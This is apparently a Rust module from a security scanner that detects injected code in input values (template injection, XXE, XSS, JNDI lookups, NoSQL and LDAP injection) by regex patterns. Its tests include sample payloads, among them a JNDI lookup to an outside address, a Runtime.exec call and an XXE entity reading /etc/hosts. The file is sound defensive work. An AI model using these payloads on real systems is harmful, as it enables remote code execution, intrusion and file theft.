//! Code that a template engine, an XML parser, a logger or a browser would run: found in values by its shape.

use aegis_core::finding::FindingId;
use regex::bytes::RegexSet;

use super::decode::View;
use super::findings::Findings;
use super::leaf::Leaf;
use super::path::contains;
use super::patterns;

struct Shape {
    pattern: &'static str,
    id: FindingId,
    score: u8,
}

const fn run(score: u8, pattern: &'static str) -> Shape {
    Shape { pattern, id: FindingId::CodeExecution, score }
}

const fn read(score: u8, pattern: &'static str) -> Shape {
    Shape { pattern, id: FindingId::SsrfLocalFile, score }
}

/// Over lower-case bytes.
const SHAPES: &[Shape] = &[
    // Template engines: reaching from a value to the interpreter.
    run(95, r"__(?:class|globals|builtins|import|subclasses|mro|base|bases|init|getattribute|code|reduce)__"),
    run(
        95,
        r"\{\{[^}]*(?:config|self\.|request\.|popen|cycler|lipsum|joiner|namespace|get_flashed|url_for|constructor|process\.|require\(|\|ats|\|attr|filter\(|system|exec|_self|passthru|getruntime)",
    ),
    run(
        85,
        r"\{\{ ?['\x22]?\d{1,6}['\x22]? ?[*+/-] ?['\x22]?\d{1,6}['\x22]? ?\}\}|[$#]\{ ?\d{1,6} ?\* ?\d{1,6} ?\}|<%= ?\d{1,6} ?[*+] ?\d{1,6}",
    ),
    run(
        95,
        r"[$#*@]\{[^}]*(?:t\(java|runtime|getclass|class\.forname|processbuilder|system\(|exec\(|self\.|\.module\.|springexpression|ognl)",
    ),
    run(
        95,
        r"java\.lang\.(?:runtime|processbuilder|class)|getruntime\(\)|freemarker\.template\.utility|\?new\(\)|new javax\.script|class\.getclassloader|objectinputstream",
    ),
    run(
        90,
        r"\{%-? ?(?:for|set|if|import|include|debug|import|extends|with)[^%]*(?:\(|config|subprocess|os\.|__)|\{php\}|\{\{?/?literal|\{smarty\.|\{system\(|\{if .*(?:system|phpinfo|exec)",
    ),
    run(
        90,
        r"<%[=@]?[^%]*(?:system|exec|file\.|io\.|`|runtime|dir\.|eval|require)|<\?php|<\?=|#set ?\(\$|#include ?\(|\$class\.inspect",
    ),
    run(95, r"<!--#(?:exec|include|echo|config|printenv|set|fsize|flastmod)\b"),
    run(95, r"\$\{(?:jndi|lower|upper|env|sys|::-)[:j]|\$\{jndi"),
    // Interpreters called by name.
    run(
        85,
        r"\b(?:os\.(?:system|popen|exec[lv]p?e?)|subprocess\.(?:run|call|popen|check_output|getoutput)|child_process|shell_exec|proc_open|pcntl_exec|passthru|commands\.getoutput|runtime\.exec|platform\.popen)\b ?['\x22(\].]",
    ),
    run(
        60,
        r"\b(?:eval|exec|assert|system|popen|include|require_once) ?\( ?(?:\$_(?:get|post|request|server|cookie)|base64_decode|__import__|compile|atob|['\x22]/|chr\()",
    ),
    run(85, r"\bphp://(?:filter|input)|\bdata://text/plain;base64|\bexpect://|\bphpinfo ?\( ?\)"),
    // XML that pulls in files and hosts.
    read(95, r"<!entity[^>]*(?:system|public)\b"),
    read(
        85,
        r"<!doctype[^>]*(?:\[|system)[^>]*<!(?:entity|element|attlist)|<!doctype [a-z]+ (?:system|public) ['\x22](?:http|file|ftp|\.\.|/)",
    ),
    read(
        90,
        r"<xi:include\b|xmlns:xi=|<!entity ?% ?|<xsl:(?:value-of|include|import|copy-of)[^>]*(?:document\(|system-property|php:function|unparsed-text|href=)|<xsl:stylesheet[^>]*(?:php|java|msxsl|exsl)",
    ),
    // Markup that runs in whoever reads it.
    run(60, r"<script\b|</script|\bjavascript: ?[a-z(%/&'\x22]|\bvbscript:|\blivescript:|data:text/html"),
    run(60, r"<[a-z!?/][^>]*[\x00-\x20/'\x22]on[a-z]{3,24} ?= ?[^ >]"),
    run(
        60,
        r"<(?:iframe|object|embed|applet|meta|link|base|form|svg|math|bgsound|isindex|frameset|layer|body|img|input|video|audio|style|xss|marquee|details|a)\b[^>]*(?:javascript|vbscript|data:text|expression\(|-moz-binding|behaviou?r:|srcdoc|alert|url=|xlink:href|formaction|prompt\(|confirm\()",
    ),
    run(
        60,
        r"\b(?:alert|prompt|confirm) ?[(`] ?(?:[\d'\x22/`]|document|string\.|xss|this|window)|document\.(?:cookie|write|location|domain)|string\.fromcharcode|window\.(?:location|name|open) ?[=(]",
    ),
    run(
        60,
        r"expression ?\( ?(?:alert|write|document|eval|string)|-moz-binding ?:|<!\[cdata\[<|<\?xml-stylesheet|<x:script|xmlns=['\x22]?http://www\.w3\.org/1999/xhtml",
    ),
    // Queries and filters that are no SQL.
    Shape {
        pattern: r"['\x22]?\$(?:where|ne|gt|gte|lt|regex|exists|nin|or|func|expr)['\x22]?\]? ?[:=]|\bthis\.\w{1,40} ?(?:==|\.match|!=)|;\s*return ?\(?true|db\.\w{1,30}\.(?:find|insert|drop)",
        id: FindingId::SqlInjection,
        score: 70,
    },
    Shape {
        pattern: r"\*\)\([|&a-z]|\)\(\||\(\|\(|\(&\([a-z]{1,24}=|\)\(&|\*\)\)|\([!&|]\(|\)\([a-z]{1,24}=\*",
        id: FindingId::SqlInjection,
        score: 70,
    },
];

/// The shapes, compiled.
#[derive(Debug)]
pub(crate) struct CodePatterns(RegexSet);

impl CodePatterns {
    /// Compiles the shapes.
    pub(crate) fn new() -> Self {
        Self(patterns::set(SHAPES.iter().map(|shape| shape.pattern)))
    }

    /// Adds the shapes of the view.
    pub(crate) fn scan(&self, leaf: &Leaf<'_>, view: &View<'_>, findings: &mut Findings) {
        if !is_suspicious(&view.lower) {
            return;
        }
        for shape in self.0.matches(&view.lower).iter().filter_map(|i| SHAPES.get(i)) {
            findings.add(shape.id, shape.score, leaf.pointer);
        }
    }
}

/// Whether the text has a bracket or a word that every shape needs.
fn is_suspicious(lower: &[u8]) -> bool {
    lower.iter().any(|b| matches!(b, b'<' | b'{' | b'(' | b'$'))
        || [
            &b"__"[..],
            b"javascript",
            b"vbscript",
            b"document.",
            b"java.lang",
            b"://",
            b"child_process",
            b"os.system",
            b"this.",
            b"xmlns",
            b"-moz-",
        ]
        .iter()
        .any(|word| contains(lower, word))
}

#[cfg(test)]
mod tests {
    use super::super::tests::scan;

    fn score(text: &str) -> u8 {
        scan("crm.note", "text", text).iter().map(|f| f.score).max().unwrap_or(0)
    }

    #[test]
    fn code_in_values_is_seen() {
        for text in [
            "{{7*7}}",
            "{{ ''.__class__.__mro__[1].__subclasses__() }}",
            "${T(java.lang.Runtime).getRuntime().exec('id')}",
            "<% require('x').system('id') %>",
            "${jndi:ldap://203.0.113.9/a}",
            "<!--#exec cmd=\"ls\" -->",
            "<!DOCTYPE r [<!ENTITY x SYSTEM \"file:///etc/hosts\">]><r>&x;</r>",
            "<img src=x onerror=alert(1)>",
            "%3Cscript%3Ealert(1)%3C/script%3E",
            "{\"user\": {\"$ne\": null}}",
            "*)(uid=*))(|(uid=*",
            "os.system('id')",
        ] {
            assert!(score(text) >= 60, "{text}: {}", score(text));
        }
    }

    #[test]
    fn ordinary_markup_and_placeholders_pass() {
        for text in [
            "Dear {{customer.name}}, thank you for order {{order.id}}.",
            "<p>Hello <b>Anna</b>, see <a href=\"https://example.org\">our page</a>.</p>",
            "cost is $5 (net) {approx}",
            "f(x) = 2x (see fig. 3)",
            "Use the evaluate (test) button",
        ] {
            assert!(score(text) < 50, "{text}: {}", score(text));
        }
    }
}
